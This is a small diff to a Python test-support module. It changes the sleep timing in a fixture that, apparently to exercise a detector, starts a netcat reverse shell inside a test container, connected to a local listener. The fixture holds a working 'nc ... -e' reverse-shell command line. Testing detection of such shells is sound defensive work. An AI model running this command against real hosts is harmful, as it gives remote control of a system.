@@ -6,6 +6,7 @@ from contextlib import AbstractContextManager, contextmanager
 from pathlib import Path
 
 from tests.support.engine import Container
+from tests.support.patience import patient
 from tests.support.processes import (
     file_id,
     mount_ids,
@@ -157,7 +158,7 @@ def _held(
 @contextmanager
 def shell_on_connection(stage: Stage) -> Iterator[Outcome]:
     """A program whose input and output are a connection that it made: a reverse shell, to a listener at its side."""
-    script = 'nc -l -p 4444 > /dev/null & sleep 0.3; exec nc 127.0.0.1 4444 -e "$0" "$@"'
+    script = f'nc -l -p 4444 > /dev/null & sleep {patient(0.3)}; exec nc 127.0.0.1 4444 -e "$0" "$@"'
     with stage.container() as container:
         pid = stage.sleep_inside(container, "sh", "-c", script)
         streams = {os.readlink(f"/proc/{pid}/fd/{number}") for number in (0, 1)}
